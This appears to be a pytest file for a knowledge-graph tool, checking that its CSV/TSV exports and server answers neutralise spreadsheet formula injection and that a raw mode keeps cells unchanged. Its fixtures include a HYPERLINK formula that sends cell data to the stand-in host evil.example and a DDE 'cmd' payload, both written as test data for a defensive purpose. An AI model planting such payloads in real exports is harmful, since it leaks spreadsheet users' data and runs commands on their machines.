"""CSV and TSV cells that a spreadsheet would run as formulas (OWASP "CSV Injection"):
`evkg export --format csv`, `evkg query --format csv|tsv` and the server's text/csv and
TSV answers give them a leading single quote, in double quotes; plain numbers stay as
they are; --raw-csv (and `evkg serve --raw-csv`) keeps every cell as it is."""

from __future__ import annotations

import csv
import io

import pytest
from starlette.testclient import TestClient

import evkg
from evkg.cli import cli
from evkg.export import csv_row, formula_safe
from evkg.server import make_app

LINK = '=HYPERLINK("http://evil.example/csv-leak?"&A1,"click")'
# label -> what a spreadsheet must be given
LABELS = {
    LINK: "'" + LINK,
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2": "'+1+2",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-3.5": "-3.5",
    "Plain Motors": "Plain Motors",
}
QUOTE = "=1+2 is what the two firms wrote in their joint note."

DATA = """\
@prefix ev: <https://w3id.org/evkg/ontology#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix prov: <http://www.w3.org/ns/prov#> .
@prefix ex: <https://example.org/formulas/> .

ex:notes a ev:Source ; rdfs:label "Notes on spreadsheet cells"@en .
ex:deal a ev:Alliance ; rdfs:label "A supply deal"@en ; ev:partner ex:firm0 , ex:firm1 ;
    ev:quote "%(quote)s" ; prov:wasDerivedFrom ex:notes .
%(firms)s
"""


def _turtle_string(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    firms = "\n".join(
        f'ex:firm{i} a ev:Automaker ; rdfs:label "{_turtle_string(label)}"@en ; ev:valueWording "{_turtle_string(label)}" ; prov:wasDerivedFrom ex:notes .'
        for i, label in enumerate(LABELS)
    )
    path = tmp_path_factory.mktemp("formulas") / "formulas.ttl"
    path.write_text(DATA % {"quote": QUOTE, "firms": firms})
    return path


LABELS_QUERY = (
    "SELECT ?label ?n WHERE { ?firm a ev:Automaker ; rdfs:label ?label . BIND(-3.5 AS ?n) } ORDER BY ?label"
)


def expected_rows(raw: bool) -> list[list[str]]:
    return [[label if raw else safe, "-3.5"] for label, safe in sorted(LABELS.items())]


def read(path) -> str:
    """A file's text with its line ends as written (a cell may hold a carriage return)."""
    return path.read_bytes().decode("utf-8")


def starts_like_a_formula(cell: str) -> bool:
    return formula_safe(cell) != cell


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("cell", [LINK, "@x", "+x", "-x", "-", "\t1", "\r1", "-3.5x", "-2+3", "+1e5+1"])
def test_formula_starts_get_a_quote(cell):
    assert formula_safe(cell) == "'" + cell
    assert csv_row([cell]) == '"' + ("'" + cell).replace('"', '""') + '"'


@pytest.mark.parametrize("cell", ["-3.5", "+12", "-1e6", "0.5", "-.5", "CATL", "", "a=b", " =1"])
def test_plain_numbers_and_text_stay(cell):
    assert formula_safe(cell) == cell


def test_raw_keeps_the_cell():
    assert csv_row([LINK, "-3.5"], raw=True) == '"=HYPERLINK(""http://evil.example/csv-leak?""&A1,""click"")",-3.5'


# --------------------------------------------------------------------------- evkg export --format csv


def test_export_csv_neutralises_labels_and_quotes(runner, data, tmp_path):
    folder = tmp_path / "csv"
    result = runner.invoke(cli, ["--no-seeds", "--data", str(data), "export", "--format", "csv", "-o", str(folder)])
    assert result.exit_code == 0, result.output
    nodes = list(csv.DictReader(io.StringIO(read(folder / "nodes.csv"), newline="")))
    labels = {row["Id"].rsplit("/", 1)[1]: row["Label"] for row in nodes}
    assert [labels[f"firm{i}"] for i in range(len(LABELS))] == list(LABELS.values())
    edges_text = read(folder / "edges.csv")
    edges = list(csv.DictReader(io.StringIO(edges_text, newline="")))
    assert {row["quote"] for row in edges} == {"'" + QUOTE}
    assert {row["target_label"] for row in edges} == {"'" + LINK, "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert '"\'=HYPERLINK(""http://evil.example/csv-leak?""&A1,""click"")"' in read(folder / "nodes.csv")
    for table in (folder / "nodes.csv", folder / "edges.csv"):
        cells = [cell for row in csv.reader(io.StringIO(read(table), newline="")) for cell in row]
        assert [cell for cell in cells if starts_like_a_formula(cell)] == []
    standard_output = runner.invoke(cli, ["--no-seeds", "--data", str(data), "export", "--format", "csv"]).output
    assert standard_output == edges_text


def test_export_raw_csv_keeps_the_cells(runner, data, tmp_path):
    folder = tmp_path / "raw"
    result = runner.invoke(cli, ["--no-seeds", "--data", str(data), "export", "--format", "csv", "--raw-csv", "-o", str(folder)])
    assert result.exit_code == 0, result.output
    nodes = list(csv.DictReader(io.StringIO(read(folder / "nodes.csv"), newline="")))
    labels = {row["Id"].rsplit("/", 1)[1]: row["Label"] for row in nodes}
    assert [labels[f"firm{i}"] for i in range(len(LABELS))] == list(LABELS)
    edges = list(csv.DictReader(io.StringIO(read(folder / "edges.csv"), newline="")))
    assert {row["quote"] for row in edges} == {QUOTE}
    wrong = runner.invoke(cli, ["--no-seeds", "export", "--format", "ttl", "--raw-csv"])
    assert wrong.exit_code == 2
    assert "--raw-csv applies to --format csv only." in wrong.output


# --------------------------------------------------------------------------- evkg query --format csv|tsv


@pytest.mark.parametrize("raw", [False, True])
def test_query_csv(runner, data, raw):
    result = runner.invoke(cli, ["--no-seeds", "--data", str(data), "query", "--format", "csv", *(["--raw-csv"] if raw else []), LABELS_QUERY])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output, newline="")))
    assert rows == [["label", "n"], *expected_rows(raw)]


@pytest.mark.parametrize("raw", [False, True])
def test_query_tsv(runner, data, raw):
    result = runner.invoke(cli, ["--no-seeds", "--data", str(data), "query", "--format", "tsv", *(["--raw-csv"] if raw else []), LABELS_QUERY])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "?label\t?n"
    cells = [line.split("\t") for line in lines[1:]]
    expected = [[f'"{_turtle_string(label)}"@en', "-3.5"] for label, _ in expected_rows(raw)]
    assert cells == expected


def test_query_ask_csv(runner):
    result = runner.invoke(cli, ["--no-seeds", "query", "--format", "csv", "ASK {}"])
    assert result.exit_code == 0, result.output
    assert result.output == "_askResult\ntrue\n"


# --------------------------------------------------------------------------- the server


@pytest.fixture(scope="module")
def served(data):
    return evkg.load([data], seeds=False)


@pytest.mark.parametrize("raw", [False, True])
def test_server_csv_and_tsv(served, raw):
    app = make_app(served, allowed_hosts=("testserver",), workers=1, raw_csv=raw)
    with TestClient(app) as client:
        by_format = client.get("/sparql", params={"query": LABELS_QUERY, "format": "csv"})
        by_accept = client.get("/sparql", params={"query": LABELS_QUERY}, headers={"Accept": "text/csv"})
        tsv = client.get("/sparql", params={"query": LABELS_QUERY}, headers={"Accept": "text/tab-separated-values"})
        json_answer = client.get("/sparql", params={"query": LABELS_QUERY, "format": "json"})
    assert by_format.text == by_accept.text
    assert list(csv.reader(io.StringIO(by_format.text, newline=""))) == [["label", "n"], *expected_rows(raw)]
    first = '"\'\t=1+1",-3.5' if not raw else "\t=1+1,-3.5"
    assert by_format.text.startswith(f"label,n\r\n{first}\r\n") and by_format.text.endswith("\r\n")
    cells = [line.split("\t") for line in tsv.text.splitlines()[1:]]
    assert cells == [[f'"{_turtle_string(label)}"@en', "-3.5"] for label, _ in expected_rows(raw)]
    # JSON results are data for programs, never opened as a sheet: kept as they are.
    assert [b["label"]["value"] for b in json_answer.json()["results"]["bindings"]] == sorted(LABELS)
